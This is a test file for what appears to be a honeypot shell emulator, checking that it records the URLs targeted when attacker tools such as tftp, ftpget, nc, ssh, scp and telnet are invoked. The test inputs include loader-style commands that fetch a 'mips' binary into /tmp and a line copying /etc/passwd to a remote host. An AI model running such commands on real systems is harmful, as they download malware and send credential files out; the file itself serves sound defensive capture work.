"""tftp, ftpget, nc, ssh: what they want is recorded, however they are called."""

import msgspec
import pytest

from samovar.event import Fact
from samovar.sensor import Clock, Fetch, Fetched, Keep, Pause, PeerError, Send
from samovar.shell import Stderr, execute
from samovar.terminal import Listen
from tests.personas import NOW
from tests.shell.console.test_session import login


def run(line: bytes, answer: Fetched | None = None) -> tuple[bytes, list[str], list[bytes]]:
    """Standard error, the URLs that were noted, and what was kept."""
    errors, urls, kept, now = b"", [], [], float(NOW)
    program, said = execute(login(), line, tty=False), None
    try:
        while True:
            step = program.throw(said) if isinstance(said, PeerError) else program.send(said)
            said = b""
            if isinstance(step, Clock):
                said = b"%.6f" % now
            elif isinstance(step, Pause):
                now += step.seconds
            elif isinstance(step, Listen):
                now += step.timeout
                said = PeerError("silent")
            elif isinstance(step, Stderr | Send):
                errors += step.data
            elif isinstance(step, Fact) and step.url_original:
                urls.append(step.url_original)
            elif isinstance(step, Keep):
                kept.append(step.data)
            elif isinstance(step, Fetch):
                said = msgspec.msgpack.encode(answer or Fetched(url=step.url, error="timeout"))
    except StopIteration:
        return errors, urls, kept


@pytest.mark.parametrize(
    ("line", "url"),
    [
        (b"busybox tftp -g -r mips 192.0.2.7", "tftp://192.0.2.7/mips"),
        (b"tftp -g -r mips 192.0.2.7", "tftp://192.0.2.7/mips"),
        (b"tftp 192.0.2.7 -c get mips", "tftp://192.0.2.7/mips"),
        (b"echo get mips | tftp 192.0.2.7", "tftp://192.0.2.7/mips"),
        (b"busybox ftpget -u a -p b 192.0.2.7 x mips", "ftp://a:b@192.0.2.7/mips"),
        (b"nc -w 3 192.0.2.7 4444", "tcp://192.0.2.7:4444"),
        (b"ssh -p 2222 root@192.0.2.7", "ssh://root@192.0.2.7:2222"),
        (b"scp /etc/passwd root@192.0.2.7:/tmp", "ssh://root@192.0.2.7:22"),
        (b"telnet 192.0.2.7 2323", "telnet://192.0.2.7:2323"),
    ],
)
def test_what_is_wanted_is_recorded(line: bytes, url: str) -> None:
    assert run(line)[1] == [url]


def test_a_loader_gets_its_file() -> None:
    answer = Fetched(url="tftp://192.0.2.7/mips", scheme="tftp", status=0, body=b"\x7fELF sample")
    line = b"cd /tmp; busybox tftp -g -l a -r mips 192.0.2.7 && wc -c < a"
    said, _, kept = run(line, answer)
    assert said == b"11\n"
    assert kept[0] == b"\x7fELF sample"
